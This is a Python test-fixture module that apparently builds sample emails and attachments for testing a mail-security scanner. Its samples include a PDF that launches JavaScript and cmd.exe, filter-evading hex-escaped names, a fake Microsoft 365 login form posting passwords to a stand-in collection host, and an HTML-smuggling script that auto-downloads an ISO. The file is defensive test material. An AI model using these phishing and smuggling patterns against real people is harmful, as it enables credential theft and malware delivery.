"""Hand-written test messages: each built to show one thing (no corpus data in the repository)."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from email.policy import SMTP

CLEAN_TEXT = ("Hi Anna,\n\nthe notes from Tuesday's meeting are below. We agreed to move the review to "
              "next week and to keep the current test plan.\n\nSee you then,\nBen\n")


def message(
    *,
    subject: str = "Notes from the meeting",
    sender: str = "Ben Miller <ben@example.org>",
    to: str = "anna@example.org",
    text: str = CLEAN_TEXT,
    html: str | None = None,
    headers: dict[str, str] | None = None,
    attachments: list[tuple[str, bytes, str]] = (),  # type: ignore[assignment]
) -> bytes:
    """A well-formed message; `attachments` are (file name, bytes, MIME type)."""
    m = EmailMessage(policy=SMTP)
    m["From"] = sender
    m["To"] = to
    m["Subject"] = subject
    m["Date"] = "Tue, 03 Mar 2026 10:00:00 +0000"
    m["Message-ID"] = "<test-1@example.org>"
    for k, v in (headers or {}).items():
        m[k] = v
    m.set_content(text)
    if html is not None:
        m.add_alternative(html, subtype="html")
    for name, data, mime in attachments:
        maintype, subtype = mime.split("/", 1)
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return m.as_bytes()


def zip_bytes(members: dict[str, bytes], encrypt: bool = False) -> bytes:
    """A zip archive; `encrypt` sets the 'encrypted' flag on every member (as a password-protected zip has)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if encrypt:
        for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = raw.find(sig)
            while i >= 0:
                raw[i + flag_at] |= 0x01
                i = raw.find(sig, i + 4)
    return bytes(raw)


PDF_WITH_JS = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
               b"2 0 obj << /S /JavaScript /JS (app.alert\\('x'\\)) >> endobj\n"
               b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
PDF_HEX_ESCAPED_JS = b"%PDF-1.4\n1 0 obj << /S /Java#53cript /JS (x) >> endobj\n%%EOF\n"
PE_HEADER = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 200

CREDENTIAL_FORM_HTML = """<html><body><h1>Microsoft 365</h1><p>Your session expired. Sign in again.</p>
<form action="https://collect.example.net/post.php" method="post">
<input type="email" name="login"><input type="password" name="passwd"><input type="submit"></form>
</body></html>"""

SMUGGLING_HTML = """<html><body><script>
var b64 = "%s";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
var blob = new Blob([bytes], {type: 'application/octet-stream'});
var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();
</script></body></html>""" % ("QUJD" * 800)


def qr_png(text: str) -> bytes:
    """A PNG image of a QR code (made with zxing-cpp and Pillow, as a phishing mail would embed it)."""
    import numpy as np
    import zxingcpp
    from PIL import Image

    img = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4)
    buf = io.BytesIO()
    Image.fromarray(np.asarray(img)).save(buf, "PNG")
    return buf.getvalue()
